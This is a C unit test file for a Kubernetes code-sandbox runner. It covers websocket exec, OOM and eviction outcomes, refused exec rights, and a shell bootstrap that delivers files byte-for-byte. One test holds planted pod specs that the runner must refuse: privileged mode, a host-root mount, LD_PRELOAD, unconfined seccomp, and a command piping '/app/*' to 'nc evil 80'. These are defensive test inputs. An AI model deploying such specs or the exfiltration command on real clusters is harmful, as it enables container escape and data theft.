	fake_expect_delayed("GET", "/pods?labelSelector=job-name", 200, oom, 6);
	fake_expect("DELETE", "/jobs/", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_int_equal(gkx_run_exit_code(run), 137);
	assert_string_equal(gkx_run_reason(run), "OOMKilled");
	gkx_run_free(run);
}

/* The exec was cut when the kubelet evicted the pod (its /tmp past the
 * limit): the pod status, a moment later, says Evicted and why. */
static void test_cold_exec_evicted(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	char *evicted = recorded_pod_event("evicted-emptydir-memory.json", "MODIFIED", "p", "u");
	static const fake_message cut[] = {
		{ GKX_WS_BINARY, "\1writing\n", 9 },
	};

	expect_cold_start(f);
	fake_expect("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, cut, 1, 1, 0);
	fake_expect_delayed("GET", "/pods?labelSelector=job-name", 200, evicted, 6);
	fake_expect("DELETE", "/jobs/", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(gkx_run_exit_code(run), 137);
	assert_string_equal(gkx_run_reason(run), "Evicted");
	assert_non_null(strstr(gkx_run_message(run), "EmptyDir volume \"tmp\""));
	assert_string_equal(f->out.ptr, "writing\n");
	gkx_run_free(run);
	cJSON_free(evicted);
}

/* A runner without pods/exec: the API server refuses the upgrade. The
 * error says which right is missing, and the claimed pod is deleted. */
static void test_exec_forbidden(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "print(1)\n");
	gkx_error err;
	static const fake_message refusal[] = {
		{ 0,
		  "{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"status\":\"Failure\",\"message\":"
		  "\"pods "
		  "\\\"sandbox-pool-aaaaaaaa-x1\\\" is forbidden: User \\\"r\\\" cannot get "
		  "resource "
		  "\\\"pods/exec\\\" in API group \\\"\\\" in the namespace \\\"sandbox\\\"\","
		  "\"reason\":\"Forbidden\",\"code\":403}",
		  0 },
	};

	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/exec?", NULL, 403, refusal, 1, 0, 0);
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), GKX_EFORBIDDEN);
	assert_non_null(strstr(err.message, "cannot get resource \"pods/exec\""));
	assert_non_null(strstr(err.message, "a warm run needs"));
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_non_null(
	        strstr(fake_request_at(fake_count() - 1)->url, "/jobs/sandbox-pool-aaaaaaaa"));
	gkx_run_free(run);
}

/* A pod with our labels but not our hardening is never used: each
 * change below, alone, to a pod our own manifest made, refuses it. */
static void test_planted_pod_is_refused(void **state)
{
	static const struct {
		const char *object, *key, *value, *why;
	} planted[] = {
		{ "spec.containers.0.securityContext", "privileged", "true", "privileged" },
		{ "spec", "runtimeClassName", "\"runc\"", "another RuntimeClass" },
		{ "spec.containers.0", "image", "\"evil:1\"", "another image" },
		{ "spec.containers.0.securityContext", "readOnlyRootFilesystem", "false",
		  "writable root" },
		{ "spec", "automountServiceAccountToken", "true", "a service-account token" },
		{ "spec", "hostPID", "true", "host namespaces" },
		{ "spec", "volumes", "[{\"name\":\"code\",\"hostPath\":{\"path\":\"/\"}}]",
		  "other volumes" },
		{ "spec.containers.0.securityContext", "seccompProfile",
		  "{\"type\":\"Unconfined\"}", "no seccomp profile" },
		{ "spec.securityContext", "seccompProfile", "{\"type\":\"Unconfined\"}",
		  "no seccomp profile" },
		{ "spec.containers.0", "command",
		  "[\"/bin/sh\",\"-c\",\"while sleep 1; do cat /app/* | nc evil 80; done\"]",
		  "another command" },
		{ "spec.containers.0", "args", "[\"x\"]", "another command" },
		{ "spec.containers.0", "lifecycle",
		  "{\"postStart\":{\"exec\":{\"command\":[\"true\"]}}}", "hooks or envFrom" },
		{ "spec.containers.0", "envFrom", "[{\"configMapRef\":{\"name\":\"x\"}}]",
		  "hooks or envFrom" },
		{ "spec.containers.0", "env", "[{\"name\":\"LD_PRELOAD\",\"value\":\"/x.so\"}]",
		  "another environment" },
		{ "spec.containers.0", "env", "[{\"name\":\"HOME\",\"value\":\"/app\"}]",
		  "another environment" },
		{ "metadata.labels", GKX_LABEL_POOL, "\"0123456789abcdef\"", "another pool" },
	};
	fixture *f = *state;
	gkx__pool p;
	gkx_error err;
	char why[64];
	size_t i;

	assert_int_equal(gkx__pool_init(&p, "sandbox", NULL, NULL, NULL, NULL, 0, 0, &err), 0);
	for (i = 0; i < sizeof(planted) / sizeof(planted[0]); i++) {
		cJSON *list = cJSON_Parse(f->pod_json),
		      *pod = cJSON_GetArrayItem(at(list, "items"), 0);
		cJSON *obj = (cJSON *)at(pod, planted[i].object),
		      *v = cJSON_Parse(planted[i].value);

		assert_true(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
		assert_non_null(obj);
		assert_non_null(v);
		if (cJSON_HasObjectItem(obj, planted[i].key))
			cJSON_ReplaceItemInObject(obj, planted[i].key, v);
		else
			cJSON_AddItemToObject(obj, planted[i].key, v);
		assert_false(gkx__pool_pod_is_hardened(pod, &p, why, sizeof(why)));
		assert_string_equal(why, planted[i].why);
		cJSON_Delete(list);
	}
}

/* ---- the bootstrap, run here by /bin/sh ---- */

static char *replace_all(const char *s, size_t len, const char *from, const char *to)
{
	gkx_buf b = GKX_BUF_INIT;
	size_t i = 0, n = strlen(from);

	while (i < len) {
		if (i + n <= len && !memcmp(s + i, from, n)) {
			gkx__buf_puts(&b, to);
			i += n;
		} else {
			gkx__buf_put(&b, s + i, 1);
			i++;
		}
	}
	return gkx__buf_detach(&b);
}

/* Run the bootstrap here on RUN's input, with DIR's app/ and tmp/ as the
 * pod's /app and /tmp; give what it printed (stdout and stderr) in GOT. */
static int run_bootstrap_to(const gkx_run *run, const char *dir, char *got, size_t size,
                            const char *stderr_to)
{
	gkx_buf in = GKX_BUF_INIT;
	char cmd[512], path[300], *boot, *lines;
	size_t head_len, n;
	const char *q;
	unsigned want, seen;
	FILE *p, *w;
	int rc;

	snprintf(cmd, sizeof(cmd), "mkdir -p %s/app %s/tmp", dir, dir);
	assert_int_equal(system(cmd), 0);
	assert_int_equal(gkx__warm_payload(&in, run), 0);
	snprintf(cmd, sizeof(cmd), "a=%s/app t=%s/tmp", dir, dir);
	boot = replace_all(gkx__warm_boot, strlen(gkx__warm_boot), "a=/app t=/tmp", cmd);
	/* The header and its lines end after 1 + LINES newlines. */
	assert_int_equal(strncmp(in.ptr, "gkx-exec-1 ", 11), 0);
	want = (unsigned)strtoul(in.ptr + 11, NULL, 10);
	assert_true(want > 0);
	for (q = in.ptr, seen = 0; seen <= want; seen++)
		q = strchr(q, '\n') + 1;
	head_len = (size_t)(q - in.ptr);
	snprintf(cmd, sizeof(cmd), "%s/app", dir);
	lines = replace_all(in.ptr, head_len, "/app", cmd);
	snprintf(path, sizeof(path), "%s/boot.sh", dir);
	w = fopen(path, "w");
	assert_non_null(w);
	fputs(boot, w);
	fclose(w);
	snprintf(path, sizeof(path), "%s/input", dir);
	w = fopen(path, "wb");
	assert_non_null(w);
	fputs(lines, w);
	fwrite(in.ptr + head_len, 1, in.len - head_len, w);
	fclose(w);
	/* As in the pod: nothing of this process's environment. */
	snprintf(cmd, sizeof(cmd),
	         "cd / && env -i PATH=/usr/bin:/bin HOME=/tmp /bin/sh %s/boot.sh sandbox-run "
	         "< %s/input 2>%s",
	         dir, dir, stderr_to);
	p = popen(cmd, "r");
	assert_non_null(p);
	n = fread(got, 1, size - 1, p);
	got[n] = '\0';
	rc = pclose(p);
	free(boot);
	free(lines);
	gkx__buf_free(&in);
	return rc;
}

static int run_bootstrap(const gkx_run *run, const char *dir, char *got, size_t size)
{
	return run_bootstrap_to(run, dir, got, size, "&1");
}

/* A Job's run started by exec keeps a Job's output: stderr joined to
 * stdout in the order printed; a warm run keeps them apart. */
static void test_bootstrap_joins_for_a_job(void **state)
{
	fixture *f = *state;
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	gkx_run *run = NULL;
	gkx_error err;
	char dir[] = "/tmp/gkx-boot-XXXXXX", cmd[512];
	char got[256] = "";

	assert_non_null(mkdtemp(dir));
	o.script_name = "t.sh";
	o.script = "echo 1; echo 2 >&2; echo 3";
	o.script_len = strlen(o.script);
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	assert_int_equal(run_bootstrap_to(run, dir, got, sizeof(got), "/dev/null"), 0);
	assert_string_equal(got, "1\n3\n");
	/* The same input, but stderr joined (the Job's env is in its spec). */
	snprintf(cmd, sizeof(cmd), "rm -rf %s/app/t.sh", dir);
	assert_int_equal(system(cmd), 0);
	run->via_exec = 1;
	assert_int_equal(run_bootstrap_to(run, dir, got, sizeof(got), "/dev/null"), 0);
	assert_string_equal(got, "1\n2\n3\n");
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	assert_int_equal(system(cmd), 0);
	gkx_run_free(run);
}

static void test_bootstrap(void **state)
{
	fixture *f = *state;
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	static const char *const args[] = { "x y", "", "two\nlines", "-n" };
	static const char *const env[] = { "PLAIN=1", "MULTI=a\nb", "-odd.name=3" };
	gkx_file extra[2];
	gkx_run *run = NULL;
	gkx_error err;
	char dir[] = "/tmp/gkx-boot-XXXXXX", cmd[512];
	char got[2048] = "";

	assert_non_null(mkdtemp(dir));
	extra[0].name = "data.txt";
	extra[0].data = "line\n";
	extra[0].len = 5;
	extra[1].name = "bin.dat";
	extra[1].data = "\0\1\2\n\n";
	extra[1].len = 5;
	o.script_name = "t.sh";
	o.script = "printf '[%s]' \"$@\"; echo; echo \"$PLAIN|$MULTI|$(pwd)\"; "
	           "od -An -c bin.dat | tr -s ' '; cat data.txt; ls -l /proc/self/fd/0 | "
	           "grep -c null; stat -c %a t.sh; tr \"\\\\0\" \"\\\\n\" </proc/$$/environ | grep "
	           "-c odd.name";
	o.script_len = strlen(o.script);
	o.args = args;
	o.nargs = 4;
	o.env = env;
	o.nenv = 3;
	o.files = extra;
	o.nfiles = 2;
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	if (run_bootstrap(run, dir, got, sizeof(got)) != 0)
		fail_msg("the bootstrap failed: %s", got);
	snprintf(cmd, sizeof(cmd),
	         "[x y][][two\nlines][-n]\n1|a\nb|%s/app\n \\0 001 002 \\n \\n\nline\n1\n444\n1\n",
	         dir);
	assert_string_equal(got, cmd);
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	assert_int_equal(system(cmd), 0);
	gkx_run_free(run);
}

/* Files travel in lines when small and free of NUL, as data otherwise:
 * either way each byte arrives as it was, whatever the shell makes of
 * backslashes, carriage returns, its own quoting bytes (0x81-0x88 in
 * dash) or lines that look like the input's own. */
static void test_bootstrap_files_exact(void **state)
{
	fixture *f = *state;
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	gkx_file extra[4];
	gkx_run *run = NULL;
	gkx_buf in = GKX_BUF_INIT;
	gkx_error err;
	char dir[] = "/tmp/gkx-boot-XXXXXX", cmd[600], got[64];
	static const char tail[] = "\nEOF\nL x\nM y\n\\\r\n  -n \n\n$(false)`false`";
	char nasty[300], big[3000];
	size_t i, n = 0;

	assert_non_null(mkdtemp(dir));
	for (i = 1; i < 256; i++)
		nasty[n++] = (char)i;
	memcpy(nasty + n, tail, sizeof(tail) - 1);
	n += sizeof(tail) - 1;
	for (i = 0; i < sizeof(big); i++)
		big[i] = (char)('a' + i % 26);
	extra[0] = (gkx_file){ .name = "nasty.txt", .data = nasty, .len = n };
	extra[1] = (gkx_file){ .name = "empty.txt", .data = "", .len = 0 };
	extra[2] = (gkx_file){ .name = "big.txt", .data = big, .len = sizeof(big) };
	extra[3] = (gkx_file){ .name = "nl.txt", .data = "\n\n", .len = 2 };
	o.script_name = "t.sh";
	o.script = "cksum <nasty.txt; cksum <empty.txt; cksum <big.txt; cksum <nl.txt";
	o.script_len = strlen(o.script);
	o.files = extra;
	o.nfiles = 4;
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	assert_int_equal(gkx__warm_payload(&in, run), 0);
	/* Three files in lines, the large one as data. */
	assert_non_null(strstr(in.ptr, "\nT t.sh\nM cksum"));
	assert_non_null(strstr(in.ptr, "\nT nasty.txt\nL \1"));
	assert_non_null(strstr(in.ptr, "\nT empty.txt\nF 3000 big.txt\nT nl.txt\nL \nL \n"));
	gkx__buf_free(&in);
	if (run_bootstrap(run, dir, got, sizeof(got)) != 0)
		fail_msg("the bootstrap failed: %s", got);
	for (i = 0; i < 4; i++) {
		FILE *p;
		snprintf(cmd, sizeof(cmd), "%s/want", dir);
		p = fopen(cmd, "wb");
		assert_non_null(p);
		fwrite(extra[i].data, 1, extra[i].len, p);
		fclose(p);
		snprintf(cmd, sizeof(cmd), "cmp %s/want %s/app/%s", dir, dir, extra[i].name);
		assert_int_equal(system(cmd), 0);
	}
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	assert_int_equal(system(cmd), 0);
	gkx_run_free(run);
}

/* A Python run with no variables of the caller's starts no `env`: the
 * shell exports ours, and the caller's still win when given. */
static void test_bootstrap_python(void **state)
{
	fixture *f = *state;
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	static const char *const env[] = { "PYTHONDONTWRITEBYTECODE=", "X=1" };
	gkx_run *run = NULL;
	gkx_error err;
	gkx_buf in = GKX_BUF_INIT;
	char dir[] = "/tmp/gkx-boot-XXXXXX", cmd[512];
	char got[2048] = "", want[600];
	unsigned k;

	if (system("command -v python3 >/dev/null") != 0)
		skip();
	assert_non_null(mkdtemp(dir));
	o.script_name = "t.py";
	o.script = "import os, sys\n"
	           "print(os.environ.get('PYTHONUNBUFFERED'), repr(os.environ.get("
	           "'PYTHONDONTWRITEBYTECODE')), os.environ.get('X'), __file__, sys.argv[1:])\n";
	o.script_len = strlen(o.script);
	for (k = 0; k < 2; k++) {
		o.env = k ? env : NULL;
		o.nenv = k ? 2 : 0;
		assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
		assert_int_equal(gkx__warm_payload(&in, run), 0);
		/* Without the caller's variables, no env in the command. */
		assert_true(!strstr(in.ptr, "A env\n") == !k);
		gkx__buf_free(&in);
		if (run_bootstrap(run, dir, got, sizeof(got)) != 0)
			fail_msg("the bootstrap failed: %s", got);
		snprintf(want, sizeof(want), "1 %s %s %s/app/t.py []\n", k ? "''" : "'1'",
		         k ? "1" : "None", dir);
		assert_string_equal(got, want);
		gkx_run_free(run);
		run = NULL;
	}
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	assert_int_equal(system(cmd), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_accept_key),
		cmocka_unit_test(test_sha1),
		cmocka_unit_test(test_encode_masks),
		cmocka_unit_test(test_decode),
		cmocka_unit_test(test_decode_refuses),
		cmocka_unit_test(test_http1_head),
		cmocka_unit_test(test_exec_status),
		cmocka_unit_test_setup_teardown(test_warm_v4, setup, teardown),
		cmocka_unit_test_setup_teardown(test_warm_v5, setup, teardown),
		cmocka_unit_test_setup_teardown(test_claim_race, setup, teardown),
		cmocka_unit_test_setup_teardown(test_no_pool_goes_cold, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_without_exec_right, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_exec_oom, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_exec_evicted, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_exec_network_none, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cold_exec_that_hangs_is_tried_again, setup,
		                                teardown),
		cmocka_unit_test_setup_teardown(test_exec_forbidden, setup, teardown),
		cmocka_unit_test_setup_teardown(test_planted_pod_is_refused, setup, teardown),
		cmocka_unit_test_setup_teardown(test_bootstrap, setup, teardown),
		cmocka_unit_test_setup_teardown(test_bootstrap_joins_for_a_job, setup, teardown),
		cmocka_unit_test_setup_teardown(test_bootstrap_python, setup, teardown),
		cmocka_unit_test_setup_teardown(test_bootstrap_files_exact, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
